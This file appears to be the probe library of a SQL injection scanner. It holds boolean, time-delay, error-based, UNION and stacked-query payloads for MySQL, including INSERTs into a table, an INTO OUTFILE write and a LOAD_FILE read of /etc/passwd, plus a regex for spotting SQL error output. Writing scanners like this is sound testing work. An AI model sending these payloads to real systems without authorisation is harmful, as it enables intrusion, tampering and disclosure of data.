/*
 * What statements are smuggled in with: the classes of texts, each with how one sees that it went
 * through. Pairs are the same question, true and false; they have the same
 * words, so that a search finds the same. {} stands for the value that belongs there.
 */
export const pairs = {
	"boolean, number": ["{} AND 7=7", "{} AND 7<7"],
	"boolean, quote": ["{}' AND '7'='7", "{}' AND '7'<'7"],
	"boolean, double quote": ['{}" AND "7"="7', '{}" AND "7"<"7'],
	"boolean, bracket": ["{}) AND (7=7", "{}) AND (7<7"],
	"boolean, quote and bracket": ["{}') AND ('7'='7", "{}') AND ('7'<'7"],
	"boolean, two brackets": ["{}')) AND (('7'='7", "{}')) AND (('7'<'7"],
	"boolean, comment": ["{}' OR 7=7 -- ", "{}' OR 7<7 -- "],
	"boolean, hash": ["{}' OR 7=7 #", "{}' OR 7<7 #"],
	"boolean, no blanks": ["{}'/**/OR/**/7=7/**/#", "{}'/**/OR/**/7<7/**/#"],
	"boolean, LIKE": ["{}%' AND 7=7 AND '%'='", "{}%' AND 7<7 AND '%'='"],
	"boolean, inline": ["(SELECT {} WHERE 7=7)", "(SELECT {} WHERE 7<7)"],
	"boolean, RLIKE": ["{}' RLIKE (SELECT 7=7) AND '7'='7", "{}' RLIKE (SELECT 7<7) AND '7'<'7"],
	"order by, column": ["(CASE WHEN 7=7 THEN 1 ELSE 2 END)", "(CASE WHEN 7<7 THEN 1 ELSE 2 END)"],
	"order by, if": ["IF(7=7,1,(SELECT 1 UNION SELECT 2))", "IF(7<7,1,(SELECT 1 UNION SELECT 2))"],
	"arithmetic": ["({}+(7=7)-1)", "({}+(7<7)-1)"],
};

export const slow = {
	"time, number": "{} AND SLEEP(2)",
	"time, quote": "{}' AND SLEEP(2) AND '7'='7",
	"time, bracket": "{}') AND SLEEP(2) AND ('7'='7",
	"time, subquery": "(SELECT SLEEP(2))",
	"time, OR": "{}' OR SLEEP(2) -- ",
	"time, order by": "IF(SLEEP(2),1,2)",
	"time, xor": "0'XOR(IF(NOW()=SYSDATE(),SLEEP(2),0))XOR'Z",
	"time, insert": "{}',SLEEP(2),'",
};

export const loud = {
	"error, quote": "{}'",
	"error, double quote": '{}"',
	"error, backslash": "{}\\",
	"error, backtick": "{}`",
	"error, extractvalue": "{}' AND EXTRACTVALUE(7,CONCAT(0x5c,VERSION())) AND '7'='7",
	"error, updatexml": "{} AND UPDATEXML(7,CONCAT(0x2e,USER()),7)",
	"error, floor": "{}' AND (SELECT 7 FROM (SELECT COUNT(*),CONCAT(VERSION(),FLOOR(RAND(0)*2))x FROM INFORMATION_SCHEMA.TABLES GROUP BY x)a) AND '7'='7",
	"error, overflow": "{} AND EXP(710)",
	"error, wide quote": "{}\u02bc\uff07",
	"order by, number": "{} ORDER BY 99 -- ",
	"order by, quote": "{}' ORDER BY 99 -- ",
	"union, columns": "{}' UNION ALL SELECT 'sm1th3r0on','sm1th3r0on','sm1th3r0on' -- ",
	"union, number": "-1 UNION SELECT 'sm1th3r0on' -- ",
	"stacked, quote": "{}'; INSERT INTO setting VALUES ('audit','1'); -- ",
	"stacked, number": "{}; INSERT INTO setting VALUES ('audit','1')",
	"stacked, bracket": "{}'); INSERT INTO setting VALUES ('audit','1'); -- ",
	"procedure": "{} PROCEDURE ANALYSE(EXTRACTVALUE(7,CONCAT(0x5c,VERSION())),7)",
	"file": "{}' INTO OUTFILE '/tmp/audit' -- ",
	"load": "{}' UNION SELECT LOAD_FILE('/etc/passwd') -- ",
};

export const signs_of_sql = /You have an error in your SQL|SQL syntax|MariaDB server|Unknown column|XPATH syntax|DOUBLE value is out of range|sm1th3r0on<|root:x:0|mysql_|Duplicate entry '/;
